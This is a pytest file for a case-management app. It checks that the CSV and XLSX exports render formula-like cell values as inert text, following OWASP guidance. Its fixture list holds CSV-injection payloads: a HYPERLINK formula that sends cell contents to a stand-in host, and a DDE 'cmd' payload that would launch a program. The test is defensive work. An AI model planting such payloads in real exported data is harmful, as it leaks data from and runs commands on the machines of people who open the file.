"""Exports are inert: a cell a spreadsheet would run as a formula is shown as text (OWASP's rule)."""
import csv
import io

import pytest
from openpyxl import load_workbook

from models import db
from tests.factories import make_case

FORMULAS = ['=HYPERLINK("http://contoh.id/?"&B2, "Klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]


@pytest.fixture()
def cases_with_formulas(app):
    with app.app_context():
        for index, title in enumerate(FORMULAS):
            make_case(title=title, proposal_number=f"F/{index}")
        db.session.commit()


def test_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe(cases_with_formulas, login_as):
    data = login_as("kabag").get("/admin/case/export/csv/").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(data)))
    titles = {row[rows[0].index("Title")] for row in rows[1:]}
    assert titles == {"'" + title for title in FORMULAS}
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_xlsx_holds_no_formula_cell(cases_with_formulas, login_as):
    workbook = load_workbook(io.BytesIO(login_as("kabag").get("/admin/case/export/xlsx/").data))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert set(FORMULAS) <= {cell.value for cell in cells}  # the text itself, unchanged, as text
